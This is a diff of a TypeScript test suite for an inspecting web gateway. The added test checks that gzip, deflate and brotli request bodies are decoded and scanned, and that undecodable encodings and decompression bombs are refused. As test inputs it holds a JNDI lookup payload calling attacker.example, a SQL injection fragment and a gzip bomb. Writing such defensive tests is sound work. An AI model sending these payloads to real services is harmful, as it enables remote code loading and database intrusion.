@@ -1,6 +1,7 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
+import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
 import { request } from 'undici';
 import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
 import { startGateway, type TestGateway } from '../helpers/gateway.ts';
@@ -344,6 +345,38 @@ test('a body that is a file (an image, a PDF, octet-stream) is inspected as an u
   // JSON sent as a file to a backend that parses every body: escapes are decoded as that backend decodes them
   assert.equal((await put('/files/a', 'application/octet-stream', '{"a":"\\u0024{jndi:ldap://attacker.example/a}"}')).status, 403);
   assert.equal(upstream.requests.length, count + 3, 'no attack reached the upstream');
+});
+
+test('a compressed body (gzip, deflate, br) is decoded, inspected and forwarded decoded; what cannot be decoded is refused', async () => {
+  const post = (body: Buffer, encoding: string, type = 'application/json') => send('/api/events', { method: 'POST', body, headers: { 'content-type': type, 'content-encoding': encoding } });
+  const json = Buffer.from(JSON.stringify({ event: 'page_view', note: "O'Brien selected the plan from the list" }));
+  const count = upstream.requests.length;
+  for (const [encoding, bytes] of [['gzip', gzipSync(json)], ['deflate', deflateSync(json)], ['br', brotliCompressSync(json)], ['GZIP', gzipSync(json)]] as const) {
+    assert.equal((await post(bytes, encoding)).status, 200, encoding);
+    const seen = upstream.requests.at(-1)!;
+    assert.equal(seen.bodySha256, createHash('sha256').update(json).digest('hex'), `${encoding}: the upstream gets the bytes that were inspected`);
+    const names = seen.rawHeaders.filter((_, i) => i % 2 === 0).map((n) => n.toLowerCase());
+    assert.ok(!names.includes('content-encoding'), `${encoding}: no Content-Encoding left on a decoded body`);
+    assert.equal(seen.rawHeaders[seen.rawHeaders.findIndex((h) => h.toLowerCase() === 'content-length') + 1], String(json.length));
+  }
+  assert.equal(upstream.requests.length, count + 4);
+
+  // attacks that only the decoded body shows
+  const form = await post(gzipSync(`q=1' or 1=1-- -&name=${encodeURIComponent(JNDI)}`), 'gzip', 'application/x-www-form-urlencoded');
+  assert.equal(form.status, 403);
+  assert.equal((await post(brotliCompressSync(`log line ${JNDI}`), 'br', 'text/plain')).status, 403);
+  assert.equal((await post(deflateSync(JSON.stringify({ a: JNDI })), 'deflate')).status, 403);
+  // what cannot be decoded cannot be inspected
+  const zstd = await post(json, 'zstd');
+  assert.equal(zstd.status, 415);
+  assert.equal(zstd.problem.reason, 'unsupported_content_encoding');
+  assert.equal((await post(brotliCompressSync(gzipSync(json)), 'gzip, br')).status, 415);
+  const corrupt = await post(Buffer.concat([gzipSync(json).subarray(0, 20), Buffer.from('not gzip')]), 'gzip');
+  assert.equal(corrupt.status, 400);
+  assert.equal(corrupt.problem.reason, 'content_encoding_invalid');
+  const bomb = await post(gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x20)), 'gzip', 'text/plain');
+  assert.equal(bomb.status, 413, 'a body that decodes past the inspection limit');
+  assert.equal(upstream.requests.length, count + 4, 'none of these reached the upstream');
 });
 
 test('a binary upload is not read as text, but a web shell hidden in an image is found; a plain image passes', async () => {
